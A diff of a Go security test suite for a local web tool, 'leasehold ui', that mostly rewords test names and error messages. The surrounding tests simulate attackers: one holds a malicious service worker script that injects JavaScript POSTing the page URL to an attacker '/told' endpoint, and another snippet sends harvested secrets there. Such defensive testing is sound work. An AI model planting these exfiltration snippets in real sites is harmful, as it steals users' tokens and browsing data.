@@ -103,7 +103,7 @@ func (a *attacker) wait() {
 	select {
 	case <-a.arrived:
 	case <-time.After(patience):
-		a.t.Fatal("nobody has asked the attacker")
+		a.t.Fatal("the attacker received no request")
 	}
 }
 
@@ -119,7 +119,7 @@ func tokenOf(t testing.TB, at string) string {
 	t.Helper()
 	_, token, ok := strings.Cut(at, "#token=")
 	if !ok || len(token) < 32 {
-		t.Fatalf("there is no token in %s", at)
+		t.Fatalf("%s contains no token", at)
 	}
 	return token
 }
@@ -167,8 +167,8 @@ func opensWith(t testing.TB, at, loot string) string {
 }
 
 // planted returns the script of a malicious service worker. In the browser, this worker
-// answers requests to the origin that installed it. It reports each request to the server
-// owner.
+// answers requests to the origin that installed it. It reports each request to the server at
+// the URL owner.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -182,7 +182,7 @@ func planted(owner string) string {
 // A browser passes requests to the service worker of an origin before it asks the server. A
 // page of another user may have installed such a worker for an address and port that
 // leasehold ui uses later.
-func TestServiceWorkerOfEarlierServerDoesNotSeeSecretToken(t *testing.T) {
+func TestOldServiceWorkerDoesNotSeeSecretToken(t *testing.T) {
 	s := newScene(t)
 	owner := attack(t, "0", &attacker{})
 	before := attack(t, "0", &attacker{pages: map[string]string{"/sw.js": planted("http://127.0.0.1:" + owner.port)}})
@@ -257,7 +257,7 @@ func TestPageOnAnotherPortCannotReadOrBreakLocks(t *testing.T) {
 		tab.Open(at)
 		got := browser.Eval[string](tab, "ask()")
 		if strings.Contains(got, "open") || strings.Contains(got, "job") || strings.Contains(got, "<html") {
-			t.Errorf("from %s it got %q", at, got)
+			t.Errorf("a page from %s read %q", at, got)
 		}
 		// The attacker's page opens the page of leasehold ui, but cannot read it. When the
 		// browser then follows a link back to the attacker, the referrer, the history and the
@@ -282,15 +282,15 @@ func TestPageOnAnotherPortCannotReadOrBreakLocks(t *testing.T) {
 			t.Errorf("the attacker has %s", what)
 		}
 	}
-	lab.Want(t, "what lets the attacker in", opensWith(t, p.url, loot), "")
+	lab.Want(t, "token that the attacker can use", opensWith(t, p.url, loot), "")
 	if status(t, p.url, tokenOf(t, p.url)) == http.StatusUnauthorized {
-		t.Error("nobody gets in, not even with the token")
+		t.Error("the server rejects its own token")
 	}
 	if out := s.run("get", "job", "--json"); !strings.Contains(out, h.token) || !strings.Contains(out, `"held"`) {
 		t.Errorf("the record: %s", out)
 	}
 	if complaints := p.Problems(); len(complaints) > 0 {
-		t.Errorf("the page complains: %q", complaints)
+		t.Errorf("problems of the page: %q", complaints)
 	}
 }
 
@@ -326,7 +326,7 @@ data: {"rows":[{"i":1,"kind":"lock","key":"a lie","state":"released"}]}
 // The test kills leasehold ui while its page is open, and an attacker takes the port. The
 // page must not show the attacker's text. The attacker must receive nothing that still
 // works after leasehold ui restarts with the same secret.
-func TestOpenPageSendsNoSecretToServerThatTakesOverItsPort(t *testing.T) {
+func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 	s := newScene(t)
 	addr := freePort(t)
 	flags := []string{"--addr", addr, "--token-file", "token", "--allow-break"}
@@ -358,10 +358,10 @@ func TestOpenPageSendsNoSecretToServerThatTakesOverItsPort(t *testing.T) {
 		await fetch("/told", { method: "POST", body: found.join("\n") })`)
 	p.Wait(`document.getElementById("live").textContent === "stale" && document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
 	if got := browser.Eval[string](p.Page, `import("/state.js").then((m) => m.post("/break", { key: "job" })).then(() => "sent", (e) => e.message)`); !strings.Contains(got, "nothing was sent") {
-		t.Errorf("what the page is asked to break is %s", got)
+		t.Errorf("a break from the open page: %s", got)
 	}
 	if browser.Eval[bool](p.Page, "globalThis.lied") {
-		t.Error("what the attacker says was shown")
+		t.Error("the page showed the attacker's text")
 	}
 	thief.leave()
 
@@ -374,15 +374,15 @@ func TestOpenPageSendsNoSecretToServerThatTakesOverItsPort(t *testing.T) {
 	if strings.Contains(loot, strings.TrimSpace(read(t, s.dir, "token"))) {
 		t.Error("the attacker has the secret")
 	}
-	lab.Want(t, "what lets the attacker in", opensWith(t, at, loot), "")
+	lab.Want(t, "token that the attacker can use", opensWith(t, at, loot), "")
 	if status(t, at, tokenOf(t, at)) == http.StatusUnauthorized {
-		t.Error("nobody gets in, not even with the token")
+		t.Error("the server rejects its own token")
 	}
 }
 
 // The attacker takes the port of the page. It forwards requests for a proof to another
 // leasehold ui with the same secret, and returns the valid proof of that server.
-func TestPageRejectsIdentityProofRelayedFromAnotherServer(t *testing.T) {
+func TestPageRejectsRelayedIdentityProof(t *testing.T) {
 	s := newScene(t)
 	p := s.ui("--token-file", "token")
 	elsewhere := s.start("ui", "--token-file", "token")
@@ -392,5 +392,5 @@ func TestPageRejectsIdentityProofRelayedFromAnotherServer(t *testing.T) {
 		proofs: httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: "127.0.0.1:" + portOf(t, at)}),
 	})
 	p.Wait(`document.getElementById("banner").textContent.includes("Open the URL that leasehold ui printed")`)
-	lab.Want(t, "what lets the attacker in", opensWith(t, at, thief.loot()), "")
+	lab.Want(t, "token that the attacker can use", opensWith(t, at, thief.loot()), "")
 }
